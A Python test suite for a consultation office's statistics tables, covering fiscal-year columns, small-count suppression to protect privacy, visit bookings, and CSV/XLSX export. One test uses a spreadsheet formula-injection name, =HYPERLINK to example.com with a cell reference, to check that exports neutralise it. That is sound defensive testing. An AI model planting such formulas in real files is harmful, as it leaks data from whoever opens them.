"""The office's own table from what was counted: fiscal years, until when, and one judgement over all tables. Pure."""

import datetime as dt
import io
import random
import zipfile
from collections.abc import Iterator

import pytest
from flask import Flask

from handlers.console import table_files, tables
from handlers.console.tables import Book, Table, VisitNames
from storage.fiscal_years import FiscalYear, months_between
from storage.totals import Counted

JANUARY = dt.date(2027, 1, 10)


@pytest.fixture(autouse=True)
def in_japanese() -> Iterator[None]:
    """A request tells the language."""
    with Flask("tables").test_request_context():
        yield


def counted(**more: Counted) -> dict[str, Counted]:
    """Ten calls in every month of three years; `more` by month, with a "_" for the "-"."""
    every: dict[str, Counted] = {m: {("contact", "phone"): 10} for m in months_between("2024-04", "2027-03")}
    for month, extra in more.items():
        every[month.removeprefix("in_").replace("_", "-")] |= extra
    return every


def table(book: Book, wanted: str) -> Table:
    found = book.table(wanted)
    assert found is not None
    return found


def row(book: Book, wanted: str, label: str) -> list[int | str]:
    (line,) = (line for line in table(book, wanted).lines if line.label == label)
    return [book.leaving(name) for name in line.cells]


def test_three_fiscal_years_side_by_side_and_until_when_the_running_one_goes() -> None:
    heads = {
        (until, today): table(tables.book(counted(), until, today), "contacts").columns[0]
        for until, today in (
            ("2026-12", JANUARY), ("2026-12", dt.date(2026, 12, 5)), ("2027-03", dt.date(2027, 4, 2)),
        )
    }  # fmt: skip
    assert list(heads.values()) == ["令和8年度(12月末現在)", "令和8年度(12月5日現在)", "令和8年度"]
    book = tables.book(counted(), "2026-12", JANUARY)
    assert table(book, "contacts").columns[1:] == ("令和7年度", "令和6年度")
    assert row(book, "contacts", "電話") == [90, 120, 120], "nine months, and two whole years"
    assert row(book, "contacts", "計") == [90, 120, 120]
    assert [line.label for line in table(book, "months").lines][:3] == ["4月", "5月", "6月"]
    assert [line.label for line in table(book, "months").lines][-2:] == ["12月", "計"]
    assert [line.label for line in table(book, "contacts").lines] == [
        "来所", "電話", "LINE(文字)", "計", "(内DV)", "(内要保護)",
    ]  # fmt: skip


def test_the_first_year_of_an_era_and_what_is_no_month() -> None:
    assert [FiscalYear(start).era for start in (2018, 2019, 2026)] == ["平成30", "令和元", "令和8"]
    assert FiscalYear.of("2027-03") == FiscalYear.of("2026-04") == FiscalYear(2026)
    for wrong in ("2026-00", "2026-13", "26-1", "2026/04", "", "２０２６-04"):
        with pytest.raises(ValueError, match="month"):
            FiscalYear.of(wrong)


def test_a_small_month_can_not_be_had_from_the_year_in_the_same_file() -> None:
    book = tables.book(
        counted(in_2026_05={("contact", "visit"): 2}, in_2026_06={("contact", "visit"): 9}),
        "2026-12",
        JANUARY,
    )
    visits = {line.label: book.leaving(line.cells[0]) for line in table(book, "months").lines}
    assert visits["5月"] == "5未満"
    assert "X" in (visits["6月"], visits["計"])
    assert visits["計"] == row(book, "contacts", "来所")[0], "one number has one face in all tables"
    may = row(book, "months", "5月")
    assert may.count("X") + may.count("5未満") >= 2, "nor from the other ways of its month"


def test_a_small_number_can_not_be_had_from_the_files_of_two_years() -> None:
    """Two calls, and forty talks on LINE: the file of that year hides one of the other numbers, and the next year's the same one."""
    young: dict[str, Counted] = {month: {} for month in months_between("2023-04", "2027-03")}
    young |= {month: {("contact", "line"): 20, ("hour", "09"): 20} for month in ("2026-01", "2026-02")}
    young["2025-10"] = {("contact", "phone"): 2}
    own = tables.book(young, "2026-03", dt.date(2026, 4, 2))
    later = tables.book(young, "2027-03", dt.date(2027, 4, 2))
    told = [{row(book, "contacts", label)[place] for book, place in ((own, 0), (later, 1))} for label in (
        "電話", "LINE(文字)", "計",
    )]  # fmt: skip
    assert told[0] == {"5未満"}
    assert told[1:] != [{40, "X"}, {42, "X"}], "or else 42 less 40 are the two who rang"
    assert [len(faces) for faces in told] == [1, 1, 1]


def test_a_year_that_is_over_keeps_the_same_back_in_every_file() -> None:
    for seed in range(30):
        chance = random.Random(seed)
        few = {
            month: {
                ("contact", "phone"): chance.choice([0, 0, 0, 0, 0, 0, 0, 2, 7, 12]),
                ("contact", "line"): (talks := chance.choice([0, 0, 0, 0, 0, 0, 0, 2, 5, 20])),
                ("hour", "09"): talks,
            }
            for month in months_between("2023-04", "2027-03")
        }
        own = tables.book(few, "2026-03", dt.date(2026, 4, 2))
        for until in ("2026-06", "2027-03"):
            later = tables.book(few, until, dt.date(2027, 4, 2))
            for line in table(own, "contacts").lines:
                assert own.leaving(line.cells[0]) == later.leaving(line.cells[0]), (
                    seed,
                    until,
                    line.cells[0],
                )


def test_what_a_part_leaves_over_is_a_small_number_too() -> None:
    calls: Counted = {("contact", "phone.dv"): 8}
    book = tables.book(counted(**{f"in_2026_{m:02}": calls for m in range(4, 13)}), "2026-12", JANUARY)
    assert row(book, "contacts", "(内DV)")[0] == 72, "eighteen others: nobody is made out"
    few: Counted = {("contact", "phone.dv"): 10}
    nearly = {f"in_2026_{m:02}": few for m in range(4, 12)} | {"in_2026_12": {("contact", "phone.dv"): 8}}
    assert "X" in {
        row(tables.book(counted(**nearly), "2026-12", JANUARY), "contacts", label)[0]
        for label in ("(内DV)", "計")
    }


def test_the_hours_are_judged_with_the_talks_they_sum_up_to() -> None:
    talks: Counted = {("contact", "line"): 7, ("hour", "09"): 3, ("hour", "21"): 4}
    book = tables.book(counted(in_2026_05=talks), "2026-12", JANUARY)
    hours = {line.label: book.leaving(line.cells[0]) for line in table(book, "hour").lines}
    assert (hours["9時台"], hours["21時台"], hours["8時台"]) == ("5未満", "5未満", 0)
    assert hours["計"] == row(book, "contacts", "LINE(文字)")[0]


NAMES = VisitNames(
    {"aibetsu": "愛別町役場", "asahikawa": "旭川市役所", "takasu": "鷹栖町役場"},
    {"oath": "宣誓(届け出)", "ask": "相談"},
)


def booked(*visits: tuple[str, str, int]) -> Counted:
    """So many of each place and kind, all in one month."""
    found: Counted = {}
    for place, kind, number in visits:
        for key in (("visit", "booked"), ("visit-place", place), ("visit-kind", kind)):
            found[key] = found.get(key, 0) + number
    return found


def test_bookings_by_place_and_by_kind_are_one_number_divided_twice() -> None:
    visits = booked(("aibetsu", "oath", 11), ("asahikawa", "ask", 12), ("closed-since", "gone", 6))
    visits |= {("visit", "missed"): 2, ("visit", "attended"): 20}
    book = tables.book(counted(in_2026_05=visits), "2026-12", JANUARY, NAMES)
    assert [row(book, "visit", label)[0] for label in ("予約が決まった", "来所した", "来所がなかった")] == [
        29,
        20,
        "5未満",
    ]
    assert row(book, "visit-place", "計") == row(book, "visit-kind", "計") == [29]
    assert row(book, "visit-place", "愛別町役場") == [11]
    assert row(book, "visit-place", "鷹栖町役場") == [0]
    assert row(book, "visit-place", "そのほか") == row(book, "visit-kind", "そのほか") == [6]
    nothing = tables.book(counted(), "2026-12", JANUARY)
    assert row(nothing, "visit-place", "計") == [0]


def test_a_place_with_few_visits_can_not_be_had_from_the_others_and_the_sum() -> None:
    visits = booked(("aibetsu", "oath", 3), ("asahikawa", "oath", 12), ("takasu", "ask", 9))
    book = tables.book(counted(in_2026_05=visits), "2026-12", JANUARY, NAMES)
    places = {line.label: book.leaving(line.cells[0]) for line in table(book, "visit-place").lines}
    assert places["愛別町役場"] == "5未満"
    assert [places[name] for name in ("旭川市役所", "鷹栖町役場", "計")].count("X") == 1
    assert places["計"] == row(book, "visit", "予約が決まった")[0], "one number has one face in all tables"


def test_a_name_is_no_formula_in_excel() -> None:
    """A clerk may call a place as they like, and somebody else opens the file."""
    names = {"a": '=HYPERLINK("https://example.com/?"&A1)', "b": "@ホーム", "c": "https://example.com"}
    visits = booked(*((place, "oath", 9) for place in names))
    book = tables.book(counted(in_2026_05=visits), "2026-12", JANUARY, VisitNames(names, {"oath": "宣誓"}))
    found = table(book, "visit-place")
    rows = [line for line in table_files.as_csv(book, found).decode("utf-8-sig").splitlines() if "9" in line]
    assert rows == ['"\'=HYPERLINK(""https://example.com/?""&A1)",9', "'@ホーム,9", "https://example.com,9"]
    with zipfile.ZipFile(io.BytesIO(table_files.as_xlsx(book, [found]))) as parts:
        sheet, texts = parts.read("xl/worksheets/sheet1.xml"), parts.read("xl/sharedStrings.xml").decode()
    assert b"<f>" not in sheet
    assert b"hyperlink" not in sheet.lower()
    assert all(name in texts for name in ("=HYPERLINK(", "@ホーム")), "the names as they are"


def test_what_was_not_counted_together_breaks_no_table() -> None:
    """A backup from another time, or a hand in the database: the rest stands under 「そのほか」."""
    visits: Counted = {("visit", "booked"): 3, ("visit-place", "aibetsu"): 9, ("visit-kind", "oath"): 7}
    book = tables.book(counted(in_2026_05=visits), "2026-12", JANUARY, NAMES)
    assert row(book, "visit-place", "計") == row(book, "visit", "予約が決まった")
    assert {line.label for line in table(book, "visit-kind").lines} >= {"そのほか", "計"}
